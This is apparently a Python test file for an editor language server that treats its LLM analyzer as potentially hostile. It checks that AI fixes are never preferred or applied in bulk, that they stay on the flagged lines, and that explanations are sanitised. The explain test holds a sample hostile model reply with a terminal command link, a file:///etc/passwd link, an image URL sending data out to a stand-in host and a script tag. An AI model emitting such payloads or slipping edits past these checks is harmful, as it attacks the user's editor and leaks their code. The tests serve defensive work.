"""A hostile model through the editor (issue 23): AI fixes are never preferred nor part of
fix-all, a finding that follows its quote into another function is dropped, "Fix this
with AI" may only touch the diagnostic's lines, and Explain shows no remote content."""

from __future__ import annotations

import sys
from pathlib import Path
from typing import Union

from lsp_harness import EDITORS, diagnostics, open_doc, running, wait_for
from lsprotocol import types
from test_server_llm import NO_INDEX, edit_and_save, llm, project, run_action  # noqa: F401 - project is a fixture

sys.path.insert(0, str(Path(__file__).resolve().parent.parent / "analyzers" / "llm"))
import pytest
from fake_provider import Reply, finding

pytestmark = pytest.mark.slow  # language-server sessions

TWO = ("def total(items):\n    result = 0.0\n    for item in items:\n        result += item.price\n    return result\n\n\n"
       "def other(items):\n    return len(items)\n")


def read_code_actions_faithfully(client) -> None:
    """lsprotocol reads any code action that carries a ``command`` as a bare Command (losing
    ``isPreferred`` and ``edit``); read a string ``command`` as a Command, else a CodeAction."""
    converter = client.protocol._converter

    def hook(obj, _type):
        if isinstance(obj.get("command"), str):
            return converter.structure(obj, types.Command)
        return converter.structure(obj, types.CodeAction)

    converter.register_structure_hook(Union[types.Command, types.CodeAction], hook)  # noqa: UP007 - the key lsprotocol uses


def actions_for(client, uri, diagnostic=None, only=None, rng=None):
    return client.text_document_code_action_async(types.CodeActionParams(
        text_document=types.TextDocumentIdentifier(uri=uri), range=rng or diagnostic.range,
        context=types.CodeActionContext(diagnostics=[diagnostic] if diagnostic else [], only=only)))


def edit_texts(edit: types.WorkspaceEdit | None) -> list[str]:
    if edit is None:
        return []
    return [e.new_text for change in edit.document_changes or [] for e in change.edits]


async def test_ai_fix_is_never_preferred_nor_in_fix_all_and_a_moved_finding_is_dropped(tmp_path, fake):  # noqa: F811
    path = project(tmp_path, fake)
    fake.responder = lambda body: Reply(payload={"findings": [
        finding("result += item.price", "price may be None", improved="result += item.price or 0")]})
    async with running(tmp_path, EDITORS["vscode"](), init_options=NO_INDEX) as client:
        read_code_actions_faithfully(client)
        uri = open_doc(client, path, path.read_text())
        edit_and_save(client, path, uri, TWO)
        [d] = llm(await diagnostics(client, uri, lambda ds: llm(ds), "LLM finding"))
        actions = await actions_for(client, uri, d)
        [fix] = [a for a in actions if a.title.endswith("apply the suggested change")]
        assert fix.title == f"postil ({d.code}): apply the suggested change"  # the prefix once, not twice
        assert not fix.is_preferred
        assert "or 0" in "".join(edit_texts(fix.edit))
        [fix_all] = await actions_for(client, uri, only=["source.fixAll.postil"], rng=d.range)
        resolved = await client.code_action_resolve_async(fix_all)
        assert not any("or 0" in t for t in edit_texts(resolved.edit))

        # the quoted line now sits in another function: not what was reviewed, so gone
        moved = TWO.replace("        result += item.price\n", "        pass\n").replace(
            "    return len(items)\n", "    result = 0\n    for item in items:\n        result += item.price\n"
                                      "    return len(items)\n")
        client.text_document_did_change(types.DidChangeTextDocumentParams(
            text_document=types.VersionedTextDocumentIdentifier(uri=uri, version=3),
            content_changes=[types.TextDocumentContentChangeWholeDocument(text=moved)]))
        await diagnostics(client, uri, lambda ds: not llm(ds), "the moved finding dropped")


async def test_fix_with_ai_may_only_touch_the_diagnostics_lines(tmp_path, fake):  # noqa: F811
    text = 'import os\n\nTIMEOUT = 30\nAWS_KEY = "AKIAQ3EGRJ7MZXK4TB2N"\n'
    path = project(tmp_path, fake)
    path.write_text(text)
    fake.answer(finding("TIMEOUT = 30", "unrelated", improved="TIMEOUT = 3000"))
    async with running(tmp_path, EDITORS["vscode"](), init_options=NO_INDEX) as client:
        uri = open_doc(client, path, text)
        [d] = await diagnostics(client, uri, lambda ds: len(ds) == 1, "the secret")
        actions = await actions_for(client, uri, d)
        [action] = [a for a in actions if a.title.endswith("Fix this with AI")]
        await run_action(client, action)
        await wait_for(client, lambda: any("the model's fix was refused: its quote is not on the lines" in m.message
                                           for m in client.messages), "the fix refused, with the reason")
        assert client.record.applied == [] and len(fake.received) == 1


async def test_explain_shows_no_remote_content(tmp_path, fake):  # noqa: F811
    path = project(tmp_path, fake)
    hostile = ("## total\n[run](command:workbench.action.terminal.new) [open](file:///etc/passwd)"
               " <img src=https://host/x.png> ![](https://host/p.png?d=result) <script>alert(1)</script>\n"
               "[ref]: https://host/q.png\n" + "pad " * 30_000)  # (within what 1,024 output tokens can be: longer is refused)
    async with running(tmp_path, EDITORS["vscode"](), init_options=NO_INDEX) as client:
        read_code_actions_faithfully(client)
        uri = open_doc(client, path, path.read_text())
        fake.script.append(Reply(payload={"markdown": hostile}))
        rng = types.Range(start=types.Position(1, 0), end=types.Position(3, 0))
        actions = await actions_for(client, uri, rng=rng)
        [explain] = [a for a in actions if a.title == "postil: Explain this"]
        cmd = explain.command
        await client.workspace_execute_command_async(types.ExecuteCommandParams(command=cmd.command,
                                                                                arguments=cmd.arguments))
        [shown] = await wait_for(client, lambda: client.record.shown_documents, "the explanation")
        body = Path(shown.uri.removeprefix("file://")).read_text()
        assert body.startswith("## total")
        for bad in ("command:", "file://", "<img", "<script", "![", "](https://host"):
            assert bad not in body
        assert len(body) < 21_000
